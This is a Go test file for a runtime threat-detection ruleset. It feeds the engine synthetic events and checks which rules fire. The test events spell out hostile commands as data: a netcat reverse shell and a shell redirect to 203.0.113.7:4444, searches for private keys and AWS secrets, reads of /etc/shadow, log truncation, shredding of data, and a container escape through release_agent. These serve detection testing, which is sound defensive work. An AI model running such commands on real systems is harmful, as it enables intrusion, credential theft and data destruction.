package rules

import (
	"net/netip"
	"path/filepath"
	"slices"
	"sort"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/sys/unix"

	"github.com/vigil-cwpp/vigil/internal/event"
)

var t0 = time.Date(2026, 11, 30, 3, 0, 0, 0, time.UTC)

// proc builds a host event of kind k by name (comm) with argv.
func proc(k event.Kind, name string, argv ...string) *event.Event {
	exe := "/usr/bin/" + name
	if len(argv) > 0 && filepath.IsAbs(argv[0]) {
		exe = argv[0]
	}
	return &event.Event{
		Time: t0,
		Type: k,
		Process: event.Process{
			PID: 4242, TID: 4242, PPID: 4000, Name: name, Exe: exe, Args: argv,
			UID: 1000, EUID: 1000, GID: 1000, EGID: 1000, LoginUID: 1000, User: "alice", Group: "alice",
			StartTime: t0.Add(-time.Second), SID: 3000, PGID: 4242,
		},
		Parent: &event.Process{PID: 4000, Name: "bash", Exe: "/usr/bin/bash", Args: []string{"bash"}, StartTime: t0.Add(-time.Hour)},
		Ancestors: []event.Ancestor{
			{PID: 3000, Name: "sshd", Exe: "/usr/sbin/sshd", Args: []string{"sshd: alice"}},
			{PID: 1, Name: "systemd", Exe: "/usr/lib/systemd/systemd"},
		},
		Workload: &event.Workload{Host: "node-1"},
	}
}

func inContainerEv(e *event.Event) *event.Event {
	e.Workload = &event.Workload{
		Host: "node-1", ContainerID: "3f2a9c1e5b7d4a6f8e0c2b4d6f8a0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a", ContainerName: "web",
		Runtime: "docker", Image: "docker.io/library/nginx:1.25",
	}
	e.Parent = &event.Process{PID: 4000, Name: "containerd-shim", Exe: "/usr/bin/containerd-shim-runc-v2"}
	e.Ancestors = []event.Ancestor{{PID: 1, Name: "systemd", Exe: "/usr/lib/systemd/systemd"}}
	return e
}

func root(e *event.Event) *event.Event {
	e.Process.UID, e.Process.EUID, e.Process.GID, e.Process.EGID = 0, 0, 0, 0
	e.Process.User, e.Process.Group = "root", "root"
	return e
}

func exec(name string, argv ...string) *event.Event {
	e := proc(event.ProcessExec, name, argv...)
	e.Syscall = "execve"
	return e
}

func open(name, path string, flags uint32, ret int64) *event.Event {
	e := proc(event.FileOpen, name, name)
	e.Syscall = "openat"
	e.File = &event.File{Path: path, Flags: flags}
	e.Ret = ret
	return e
}

func connect(name string, dst string, proto int) *event.Event {
	e := proc(event.NetConnect, name, name)
	e.Syscall = "connect"
	e.Net = &event.Net{Family: "inet", Type: "stream", Protocol: proto,
		Src: netip.MustParseAddrPort("192.168.1.10:51234"), Dst: netip.MustParseAddrPort(dst)}
	return e
}

// stableCases are hand-built events, each performing the behaviour one of
// falco_rules.yaml's 25 stable rules describes.
func stableCases() map[string]*event.Event {
	c := map[string]*event.Event{}

	e := open("php-fpm", "/var/www/html/../../../etc/passwd", unix.O_RDONLY, 5)
	e.Parent.Name = "php-fpm"
	c["Directory traversal monitored file read"] = e

	e = open("nginx", "/etc/shadow", unix.O_RDONLY, 7)
	e.Process.StartTime = t0.Add(-time.Hour)
	e.Parent.Name = "google_accounts" // the untrusted rule's documented tuning
	c["Read sensitive file trusted after startup"] = e

	c["Read sensitive file untrusted"] = open("cat", "/etc/shadow", unix.O_RDONLY, 3)

	e = exec("bash", "bash", "-c", "id")
	e.Parent = &event.Process{PID: 4000, Name: "nginx", Exe: "/usr/sbin/nginx", Args: []string{"nginx", "-g", "daemon off;"}}
	c["Run shell untrusted"] = e

	e = exec("ls", "ls", "/")
	e.Process.EUID, e.Process.User = 33, "www-data"
	e.Parent = &event.Process{PID: 4000, Name: "sshd", Exe: "/usr/sbin/sshd"}
	c["System user interactive"] = e

	e = inContainerEv(root(exec("bash", "/bin/bash")))
	e.Process.TTYNr = 34816
	e.Parent = &event.Process{PID: 4000, Name: "runc", Exe: "/usr/bin/runc"}
	c["Terminal shell in container"] = e

	e = inContainerEv(connect("curl", "10.96.0.1:443", 6))
	e.Net.Names = []string{"kubernetes.default.svc.cluster.local"}
	c["Contact K8S API Server From Container"] = e

	c["Netcat Remote Code Execution in Container"] = inContainerEv(exec("nc", "nc", "-e", "/bin/sh", "203.0.113.7", "4444"))

	c["Search Private Keys or Passwords"] = exec("find", "find", "/", "-name", "id_rsa")

	e = open("bash", "/var/log/syslog", unix.O_WRONLY|unix.O_TRUNC, 3)
	c["Clear Log Activities"] = e

	c["Remove Bulk Data from Disk"] = exec("shred", "shred", "-u", "/data/db")

	e = proc(event.FileSymlink, "ln", "ln", "-s", "/etc/shadow", "/tmp/s")
	e.Syscall = "symlinkat"
	e.File = &event.File{Path: "/etc/shadow", NewPath: "/tmp/s"}
	c["Create Symlink Over Sensitive Files"] = e

	e = proc(event.FileLink, "ln", "ln", "/etc/shadow", "/tmp/h")
	e.Syscall = "linkat"
	e.File = &event.File{Path: "/etc/shadow", NewPath: "/tmp/h"}
	c["Create Hardlink Over Sensitive Files"] = e

	e = inContainerEv(proc(event.NetSocket, "tcpdump", "tcpdump", "-i", "eth0"))
	e.Syscall = "socket"
	e.Net = &event.Net{Family: "packet", Type: "raw"}
	e.Ret = 3
	c["Packet socket created in container"] = e

	e = inContainerEv(proc(event.FDDup, "bash", "bash", "-i"))
	e.Syscall = "dup2"
	e.Detail = &event.Detail{Request: 3}
	e.Ret = 0
	e.Net = &event.Net{Family: "inet", Type: "stream", Protocol: 6,
		Src: netip.MustParseAddrPort("172.17.0.2:40000"), Dst: netip.MustParseAddrPort("203.0.113.7:4444")}
	c["Redirect STDOUT/STDIN to Network Connection in Container"] = e

	e = inContainerEv(root(proc(event.ModuleLoad, "insmod", "insmod", "evil.ko")))
	e.Syscall = "init_module"
	e.Process.CapEff = 1<<unix.CAP_SYS_MODULE | 1<<unix.CAP_SYS_ADMIN
	e.Detail = &event.Detail{Name: "evil"}
	c["Linux Kernel Module Injection Detected"] = e

	e = inContainerEv(root(exec("debugfs", "debugfs", "/dev/sda1")))
	e.Workload.Privileged = true
	c["Debugfs Launched in Privileged Container"] = e

	e = inContainerEv(root(open("sh", "/tmp/cgrp/release_agent", unix.O_WRONLY|unix.O_CREAT|unix.O_TRUNC, 3)))
	e.Process.CapEff = 1<<unix.CAP_SYS_ADMIN | 1<<unix.CAP_DAC_OVERRIDE
	c["Detect release_agent File Container Escapes"] = e

	e = proc(event.Ptrace, "gdb", "gdb", "-p", "1")
	e.Syscall = "ptrace"
	e.Detail = &event.Detail{Request: unix.PTRACE_ATTACH}
	c["PTRACE attached to process"] = e

	e = proc(event.Ptrace, "malware", "./malware")
	e.Syscall = "ptrace"
	e.Detail = &event.Detail{Request: unix.PTRACE_TRACEME}
	c["PTRACE anti-debug attempt"] = e

	c["Find AWS Credentials"] = exec("grep", "grep", "-r", "aws_secret_access_key", "/home")

	c["Execution from /dev/shm"] = exec("x", "/dev/shm/x")

	e = inContainerEv(exec("payload", "/tmp/payload"))
	e.Process.ExeUpper = true
	c["Drop and execute new binary in container"] = e

	c["Disallowed SSH Connection Non Standard Port"] = connect("ssh", "198.51.100.9:443", 6)
	c["Disallowed SSH Connection Non Standard Port"].Process.Exe = "/usr/bin/ssh"
	c["Disallowed SSH Connection Non Standard Port"].Process.Args = []string{"ssh", "-p", "443", "198.51.100.9"}

	e = exec("payload", "memfd:payload")
	e.Process.Exe = "memfd:payload (deleted)"
	e.Process.ExeMemfd = true
	c["Fileless execution via memfd_create"] = e
	return c
}

func matchNames(rs *Ruleset, e *event.Event) []string {
	var got []string
	rs.Match(e, func(r *Rule) { got = append(got, r.Name) })
	sort.Strings(got)
	return got
}

// stableRuleset is the built-in falco_rules.yaml alone.
func stableRuleset(t *testing.T) *Ruleset {
	t.Helper()
	fs := DefaultFiles()
	if fs[0].Name != "builtin/falco_rules.yaml" {
		t.Fatalf("first built-in file is %s", fs[0].Name)
	}
	rs, err := Load(fs[0])
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

// TestStableRulesFire: each hand-built behaviour fires exactly its rule
// through falco_rules.yaml, and fires it through the whole built-in
// ruleset too.
func TestStableRulesFire(t *testing.T) {
	rs := stableRuleset(t)
	def, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	cases := stableCases()
	stable := 0
	for _, r := range rs.Rules() {
		if r.File == "builtin/falco_rules.yaml" {
			stable++
			if _, ok := cases[r.Name]; !ok {
				t.Errorf("no test event for stable rule %q", r.Name)
			}
		}
	}
	if stable != 25 {
		t.Errorf("%d stable rules active, want 25", stable)
	}
	for name, e := range cases {
		t.Run(name, func(t *testing.T) {
			got := matchNames(rs, e)
			if diff := cmp.Diff([]string{name}, got); diff != "" {
				t.Errorf("rules fired (-want +got):\n%s", diff)
			}
			if all := matchNames(def, e); !slices.Contains(all, name) {
				t.Errorf("the built-in ruleset fired %v, without %q", all, name)
			}
		})
	}
}

// TestStableRulesQuiet: ordinary activity fires nothing.
func TestStableRulesQuiet(t *testing.T) {
	rs := stableRuleset(t)
	for _, e := range benignEvents() {
		if got := matchNames(rs, e); len(got) > 0 {
			t.Errorf("%s %s fired %v", e.Type, e.Process.Name, got)
		}
	}
}

func benignEvents() []*event.Event {
	ls := exec("ls", "ls", "-l")
	cat := open("cat", "/etc/hostname", unix.O_RDONLY, 3)
	w := open("vim", "/home/alice/notes.txt", unix.O_WRONLY|unix.O_CREAT|unix.O_TRUNC, 3)
	curl := connect("curl", "93.184.216.34:443", 6)
	nginx := inContainerEv(exec("nginx", "nginx", "-g", "daemon off;"))
	fork := proc(event.ProcessFork, "bash", "bash")
	exit := proc(event.ProcessExit, "bash", "bash")
	exit.Exit = &event.Exit{Code: 0}
	ssh := connect("ssh", "198.51.100.9:22", 6)
	ssh.Process.Exe = "/usr/bin/ssh"
	return []*event.Event{ls, cat, w, curl, nginx, fork, exit, ssh}
}

// TestStableRulesNearMiss: changing the one detail each rule keys on
// makes it stay silent, so the firing test above is not vacuous.
func TestStableRulesNearMiss(t *testing.T) {
	rs := stableRuleset(t)
	miss := map[string]func(e *event.Event){
		"Directory traversal monitored file read":                  func(e *event.Event) { e.File.Path = "/etc/passwd" },
		"Read sensitive file trusted after startup":                func(e *event.Event) { e.Process.StartTime = t0.Add(-time.Second) },
		"Read sensitive file untrusted":                            func(e *event.Event) { e.Process.Name = "sshd" },
		"Run shell untrusted":                                      func(e *event.Event) { e.Parent.Name = "bash" },
		"System user interactive":                                  func(e *event.Event) { e.Process.User = "alice" },
		"Terminal shell in container":                              func(e *event.Event) { e.Process.TTYNr = 0 },
		"Contact K8S API Server From Container":                    func(e *event.Event) { e.Workload.ImageDigest = ""; e.Workload.PodNamespace = "kube-system" },
		"Netcat Remote Code Execution in Container":                func(e *event.Event) { e.Process.Args = []string{"nc", "-l", "4444"} },
		"Search Private Keys or Passwords":                         func(e *event.Event) { e.Process.Args = []string{"find", "/", "-name", "notes"} },
		"Clear Log Activities":                                     func(e *event.Event) { e.File.Flags = unix.O_WRONLY | unix.O_APPEND },
		"Remove Bulk Data from Disk":                               func(e *event.Event) { e.Process.Name = "rm" },
		"Create Symlink Over Sensitive Files":                      func(e *event.Event) { e.File.Path = "/tmp/target" },
		"Create Hardlink Over Sensitive Files":                     func(e *event.Event) { e.File.Path = "/etc/hostname" },
		"Packet socket created in container":                       func(e *event.Event) { e.Workload = &event.Workload{Host: "node-1"} },
		"Redirect STDOUT/STDIN to Network Connection in Container": func(e *event.Event) { e.Ret = 5 },
		"Linux Kernel Module Injection Detected":                   func(e *event.Event) { e.Process.CapEff = 1 << unix.CAP_SYS_ADMIN },
		"Debugfs Launched in Privileged Container":                 func(e *event.Event) { e.Workload.Privileged = false },
		"Detect release_agent File Container Escapes":              func(e *event.Event) { e.Process.CapEff = 1 << unix.CAP_DAC_OVERRIDE },
		"PTRACE attached to process":                               func(e *event.Event) { e.Detail.Request = unix.PTRACE_PEEKDATA },
		"PTRACE anti-debug attempt":                                func(e *event.Event) { e.Detail.Request = unix.PTRACE_CONT },
		"Find AWS Credentials":                                     func(e *event.Event) { e.Process.Args = []string{"grep", "-r", "password", "/home"} },
		"Execution from /dev/shm":                                  func(e *event.Event) { e.Process.Args = []string{"/tmp/x"} },
		"Drop and execute new binary in container":                 func(e *event.Event) { e.Process.ExeUpper = false },
		"Disallowed SSH Connection Non Standard Port":              func(e *event.Event) { e.Net.Dst = netip.MustParseAddrPort("10.1.2.3:443") },
		"Fileless execution via memfd_create":                      func(e *event.Event) { e.Parent.Name = "runc" },
	}
	for name, e := range stableCases() {
		f, ok := miss[name]
		if !ok {
			t.Errorf("no near miss for %q", name)
			continue
		}
		f(e)
		if got := matchNames(rs, e); len(got) != 0 {
			t.Errorf("%s: near miss fired %v", name, got)
		}
	}
}
